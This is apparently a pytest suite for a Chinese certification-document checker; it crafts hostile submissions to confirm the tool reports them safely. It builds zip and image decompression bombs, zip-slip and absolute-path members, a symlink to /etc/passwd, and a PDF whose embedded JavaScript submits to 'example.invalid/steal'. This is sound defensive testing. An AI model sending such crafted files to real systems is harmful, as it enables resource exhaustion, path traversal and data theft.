"""Hostile inputs: every kind of bad file an enterprise (or an attacker) can hand in.

Each case is built in ``tmp_path`` as one submission (a folder, or a zip directly under ROOT)
and checked twice: all together with ``lingtan check-batch`` (one submission per case) and one
by one with ``lingtan check``. Every case must end in a clear report — the file listed as
unreadable with its reason, or read normally when it is harmless (owner-password-only PDF,
JavaScript, a repaired xref) — with no traceback, nothing written outside ``--out`` (zip members
named ``../`` or ``/…`` included) and ROOT byte-for-byte unchanged.

Timing note (measured on 2 cores): the 5,000-page blank PDF is read in full — every page's text
and a 50-dpi rendering for the seal check — ≈ 4 s without OCR; with OCR on, each blank page is
also checked for ink, which costs ≈ 5 ms per page in ``extract.blank`` (≈ 30 s in all; see the
batch docs). Without OCR the whole suite runs in ≈ 30 s.
"""

from __future__ import annotations

import builtins
import contextlib
import functools
import hashlib
import io
import json
import os
import shutil
import stat
import struct
import tempfile
import zipfile
import zlib
from pathlib import Path

import pymupdf
import pytest

from lingtan.cli import main

ROOT_DIR = Path(__file__).resolve().parents[1]
APPLICANT = ROOT_DIR / "samples" / "factories" / "hefei.yaml"
SCHEME = "hefei"
COMPANY = "合肥瀚川汽车电子有限公司"
ABSOLUTE_TARGET = "/tmp/lingtan-hostile-absolute-member.pdf"


# -- building blocks -----------------------------------------------------------------------------


def text_pdf(pages: int = 1, **save) -> bytes:
    doc = pymupdf.open()
    for i in range(pages):
        page = doc.new_page()
        page.insert_text((72, 80), f"质量管理体系认证证书 第{i + 1}页", fontname="china-s", fontsize=18)
        page.insert_text((72, 120), f"获证组织：{COMPANY}", fontname="china-s", fontsize=11)
        page.insert_text((72, 150), "认证标准：GB/T 19001-2016 质量管理体系 要求", fontname="china-s", fontsize=11)
    return doc.tobytes(**save)


def raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A hand-written PDF with a correct xref table (object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 50_000) -> bytes:
    """A PNG declaring side×side pixels (8-bit grey) with only a few rows of data."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\0" * (side + 1) * 4)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def jpeg_bomb(side: int = 50_000) -> bytes:
    """A JPEG whose frame header (SOF0) declares side×side pixels; the scan data is a stub."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, side, side, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + b"\xff\xd9"


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def gbk_zip(members: dict[str, bytes]) -> bytes:
    """A zip as Chinese Windows writes it: GBK names, no UTF-8 flag (placeholders patched to GBK bytes)."""
    placeholders = {}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i, (name, data) in enumerate(members.items()):
            raw = name.encode("gbk")
            ph = (f"~{i}~" + "x" * len(raw))[: len(raw)].encode("ascii")
            placeholders[ph] = raw
            z.writestr(ph.decode("ascii"), data)
    out = buf.getvalue()
    for ph, raw in placeholders.items():
        assert out.count(ph) == 2  # local header and central directory
        out = out.replace(ph, raw)
    return out


def symlink_member_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("营业执照.pdf")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, "/etc/passwd")
    return buf.getvalue()


def bzip2_bomb(megabytes: int = 100) -> bytes:
    """One member of ``megabytes`` MB of zeros, bzip2: a ratio of ~700,000:1 (declared honestly)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_BZIP2) as z:
        with z.open("审计报告.pdf", "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(megabytes):
                fh.write(chunk)
    return buf.getvalue()


def nested_zip(levels: int = 10) -> bytes:
    data = zip_bytes({"最里层/营业执照.pdf": text_pdf()})
    for i in range(levels - 1):
        data = zip_bytes({f"第{levels - i - 1}层.zip": data})
    return data


def corrupt_xref(data: bytes) -> bytes:
    """The xref table overwritten with garbage and startxref pointing into the middle of the file."""
    start = data.rfind(b"\nxref\n") + 1
    end = data.rfind(b"trailer")
    assert 0 < start < end
    garbage = bytes((i * 37 + 11) % 256 for i in range(end - start))
    tail = data[end:]
    tail = tail[: tail.rfind(b"startxref")] + b"startxref\n17\n%%EOF\n"
    return data[:start] + garbage + tail


def js_pdf() -> bytes:
    js = b"app.alert('pwned'); this.submitForm('http://example.invalid/steal');"
    content = b"BT /F1 18 Tf 72 720 Td (Quality certificate) Tj ET"
    return raw_pdf([
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names[(x) 5 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 6 0 R>>>>/Contents 4 0 R"
        b"/AA<</O 5 0 R>>>>",
        b"<</Length %d>>\nstream\n" % len(content) + content + b"\nendstream",
        b"<</Type/Action/S/JavaScript/JS(" + js + b")>>",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ])


def pdf_image_bomb(side: int = 50_000) -> bytes:
    """A page showing one image XObject that declares side×side RGB pixels (7.5 GB decoded)."""
    data = zlib.compress(b"\0" * side * 3 * 8)
    image = (b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8"
             b"/Filter/FlateDecode/Length %d>>\nstream\n" % (side, side, len(data)) + data + b"\nendstream")
    content = b"q 500 0 0 700 50 50 cm /Im0 Do Q"
    return raw_pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</Im0 5 0 R>>>>/Contents 4 0 R>>",
        b"<</Length %d>>\nstream\n" % len(content) + content + b"\nendstream",
        image,
    ])


def blank_pages_pdf(n: int) -> bytes:
    doc = pymupdf.open()
    for _ in range(n):
        doc.new_page()
    return doc.tobytes(garbage=1)


# -- the cases -----------------------------------------------------------------------------------
# name → (files of the submission folder, or bytes of a zip submission; the file to look at; its
#        expected problem (None: read normally); words the unreadable gap's message must contain)

LOCKED = "无权限/质量管理体系认证证书.pdf"


@functools.lru_cache(maxsize=1)
def cases() -> dict[str, tuple[dict[str, bytes] | bytes, str, str | None, tuple[str, ...]]]:
    good = text_pdf(2)
    return {
        "truncated": ({"截断.pdf": good[: len(good) // 2]}, "截断.pdf", "corrupt", ("损坏",)),
        "corrupt-xref": ({"交叉引用表损坏.pdf": corrupt_xref(good)}, "交叉引用表损坏.pdf", None, ()),
        "encrypted-user": ({"加密.pdf": text_pdf(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="u", owner_pw="o")},
                           "加密.pdf", "encrypted", ("加密", "密码")),
        "encrypted-owner": ({"限制打印.pdf": text_pdf(encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="owner",
                                                    permissions=int(pymupdf.PDF_PERM_ACCESSIBILITY))},
                            "限制打印.pdf", None, ()),
        "zero-pages": ({"没有页.pdf": raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])},
                       "没有页.pdf", "no_pages", ("没有任何页面",)),
        "zero-bytes": ({"空文件.pdf": b""}, "空文件.pdf", "empty", ("0 字节",)),
        "5000-pages": ({"五千页.pdf": blank_pages_pdf(5000)}, "五千页.pdf", None, ()),
        "png-bomb": ({"营业执照.png": png_bomb()}, "营业执照.png", "too_large", ("像素",)),
        "jpeg-bomb": ({"营业执照.jpg": jpeg_bomb()}, "营业执照.jpg", "too_large", ("像素",)),
        "pdf-image-bomb": ({"图片炸弹.pdf": pdf_image_bomb()}, "图片炸弹.pdf", None, ()),
        "nested-zips": ({"套娃.zip": nested_zip(10)}, "套娃.zip/第1层.zip/第2层.zip/第3层.zip", "unsafe", ("嵌套",)),
        "javascript": ({"带脚本.pdf": js_pdf()}, "带脚本.pdf", None, ()),
        "not-a-pdf": ({"下载失败.pdf": b"<!DOCTYPE html><html><body>404 Not Found</body></html>"},
                      "下载失败.pdf", "not_pdf", ("不是 PDF",)),
        "zip-slip": (zip_bytes({"../../逃逸.pdf": text_pdf(), "正常.pdf": text_pdf()}), "../../逃逸.pdf", "unsafe", ("..",)),
        "zip-absolute": (zip_bytes({ABSOLUTE_TARGET: text_pdf()}), ABSOLUTE_TARGET, "unsafe", ("绝对路径",)),
        "zip-symlink": ({"链接.zip": symlink_member_zip()}, "链接.zip/营业执照.pdf", "unsafe", ("符号链接",)),
        "zip-bomb": ({"炸弹.zip": bzip2_bomb()}, "炸弹.zip/审计报告.pdf", "unsafe", ("压缩比", "压缩炸弹")),
        "gbk-names": (gbk_zip({"申报材料/01-营业执照.pdf": text_pdf(), "申报材料/（3）能源审计报告.pdf": text_pdf()}),
                      "申报材料/01-营业执照.pdf", None, ()),
        "disk-symlink": ({"营业执照.pdf": b"LINK"}, "营业执照.pdf", "unsafe", ("符号链接",)),
        "no-permission": ({LOCKED: text_pdf()}, LOCKED, "permission", ("权限",)),
    }


CASE_NAMES = list(cases())


def build(root: Path, secret: Path) -> dict[str, Path]:
    """Write every case under ``root``; returns case → submission path."""
    paths = {}
    for name, (content, _, _, _) in cases().items():
        if isinstance(content, bytes):
            p = root / f"{name}.zip"
            p.write_bytes(content)
        else:
            p = root / name
            for rel, data in content.items():
                f = p / rel
                f.parent.mkdir(parents=True, exist_ok=True)
                if name == "disk-symlink":
                    f.symlink_to(secret)
                else:
                    f.write_bytes(data)
        paths[name] = p
    (root / "no-permission" / LOCKED).chmod(0)
    return paths


def snapshot(top: Path, skip: Path | None = None) -> dict[str, tuple]:
    """Every entry under ``top`` with its type, mode and content hash (links: their target)."""
    state = {}
    for dirpath, dirnames, filenames in os.walk(top):
        if skip is not None and Path(dirpath) == skip.parent:
            dirnames[:] = [d for d in dirnames if Path(dirpath, d) != skip]
        for n in dirnames + filenames:
            p = Path(dirpath, n)
            st = p.lstat()
            if stat.S_ISLNK(st.st_mode):
                state[str(p.relative_to(top))] = ("link", os.readlink(p))
            elif stat.S_ISDIR(st.st_mode):
                state[str(p.relative_to(top))] = ("dir", st.st_mode)
            else:
                state[str(p.relative_to(top))] = ("file", st.st_mode, hashlib.sha256(p.read_bytes()).hexdigest())
    return state


@contextlib.contextmanager
def refused(path: Path):
    """Tests run as root, who reads anything: make ``open`` refuse ``path`` like a 000 file (also in forked workers)."""
    real_open = builtins.open
    target = os.path.realpath(path)

    def guarded(file, *args, **kwargs):
        if isinstance(file, (str, os.PathLike)) and os.path.realpath(file) == target:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    builtins.open = guarded
    try:
        yield
    finally:
        builtins.open = real_open


def run_main(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def no_traceback(*texts: str) -> None:
    for t in texts:
        assert "Traceback" not in t and "内部错误" not in t and "检查程序" not in t, t


# -- fixtures ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """ROOT with one submission per case, checked once with check-batch (scratch files kept in a private temp dir)."""
    base = tmp_path_factory.mktemp("hostile")
    root, out, apps, scratch = base / "root", base / "out", base / "applicants", base / "tmp"
    for d in (root, apps, scratch):
        d.mkdir()
    secret = base / "secret.pdf"
    secret.write_bytes(text_pdf())
    paths = build(root, secret)
    for name in paths:
        shutil.copy(APPLICANT, apps / f"{name}.yaml")
    before_root = snapshot(root)
    before_base = snapshot(base)
    saved_tempdir = tempfile.tempdir
    tempfile.tempdir = str(scratch)  # ingest's copies of nested zips go here: must be gone afterwards
    try:
        with refused(root / "no-permission" / LOCKED):
            code, stdout, stderr = run_main("check-batch", str(root), "--scheme", SCHEME, "--out", str(out),
                                            "--applicants", str(apps), "--as-of", "2026-03-15", "--no-ocr", "--jobs", "2")
    finally:
        tempfile.tempdir = saved_tempdir
    return {
        "base": base, "root": root, "out": out, "apps": apps, "paths": paths, "scratch": scratch,
        "code": code, "stdout": stdout, "stderr": stderr,
        "before_root": before_root, "after_root": snapshot(root), "before_base": before_base,
        "after_base": snapshot(base, skip=out),
    }


def file_entry(report: dict, display: str) -> dict:
    return next(f for f in report["files"] if f["path"] == display)


def assert_case(report: dict, case: str) -> None:
    _, display, problem, words = cases()[case]
    f = file_entry(report, display)
    assert f["problem"] == problem, (case, f)
    unreadable = [g for g in report["gaps"] if g["code"] == "unreadable" and g["document"] == display]
    if problem is None:
        assert not unreadable, unreadable
        assert f["pages"] >= 1
    else:
        (gap,) = unreadable
        assert any(w in gap["message"] for w in words), gap["message"]
        assert gap["message"].startswith(display)


# -- check-batch ---------------------------------------------------------------------------------


@pytest.mark.slow
def test_check_batch_reports_every_case_and_exits_1(hostile):
    no_traceback(hostile["stdout"], hostile["stderr"])
    assert hostile["code"] == 1  # every submission lacks materials: gaps, no failures
    summary = json.loads((hostile["out"] / "检查汇总.json").read_text(encoding="utf-8"))
    assert summary["counts"]["failed"] == 0 and summary["counts"]["done"] == len(CASE_NAMES)
    assert {s["name"] for s in summary["submissions"]} == set(CASE_NAMES)
    assert "\x1b" not in hostile["stderr"] and "\r" not in hostile["stderr"]


@pytest.mark.parametrize("case", CASE_NAMES)
def test_check_batch_case(hostile, case):
    report = json.loads((hostile["out"] / "reports" / f"{case}.json").read_text(encoding="utf-8"))
    assert_case(report, case)
    assert (hostile["out"] / "reports" / f"{case}.html").stat().st_size > 0


@pytest.mark.slow
def test_nothing_changed_in_root_and_nothing_written_outside_out(hostile):
    assert hostile["after_root"] == hostile["before_root"]
    assert hostile["after_base"] == hostile["before_base"]  # only OUT is new
    assert not Path(ABSOLUTE_TARGET).exists()
    assert not (hostile["base"] / "逃逸.pdf").exists() and not (hostile["base"].parent / "逃逸.pdf").exists()
    assert list(hostile["scratch"].iterdir()) == []  # temporary copies of nested zips removed


@pytest.mark.slow
def test_owner_password_and_gbk_names_are_read(hostile):
    report = json.loads((hostile["out"] / "reports" / "encrypted-owner.json").read_text(encoding="utf-8"))
    assert any(d["path"] == "限制打印.pdf" for d in report["documents"])
    report = json.loads((hostile["out"] / "reports" / "gbk-names.json").read_text(encoding="utf-8"))
    assert {f["path"] for f in report["files"]} == {"申报材料/01-营业执照.pdf", "申报材料/（3）能源审计报告.pdf"}


@pytest.mark.slow
def test_five_thousand_pages_are_read_within_the_limit(hostile):
    report = json.loads((hostile["out"] / "reports" / "5000-pages.json").read_text(encoding="utf-8"))
    assert file_entry(report, "五千页.pdf")["pages"] == 5000
    assert report["seconds"] < 60  # ≈ 4 s without OCR on 2 cores (all pages are read: see the module doc)


# -- lingtan check, one case at a time -----------------------------------------------------------


@pytest.mark.parametrize("case", CASE_NAMES)
def test_lingtan_check_case(hostile, case, tmp_path):
    path = hostile["paths"][case]
    before = snapshot(hostile["root"])
    out = tmp_path / "report.json"
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    saved_tempdir = tempfile.tempdir
    tempfile.tempdir = str(scratch)
    lock = refused(hostile["root"] / "no-permission" / LOCKED) if case == "no-permission" else contextlib.nullcontext()
    try:
        with lock:
            code, stdout, stderr = run_main("check", str(path), "--scheme", SCHEME, "--applicant", str(APPLICANT),
                                            "--as-of", "2026-03-15", "--no-ocr", "--format", "json", "--out", str(out))
    finally:
        tempfile.tempdir = saved_tempdir
    no_traceback(stdout, stderr)
    assert code == 1
    assert_case(json.loads(out.read_text(encoding="utf-8")), case)
    assert snapshot(hostile["root"]) == before
    assert list(scratch.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["report.json", "tmp"]
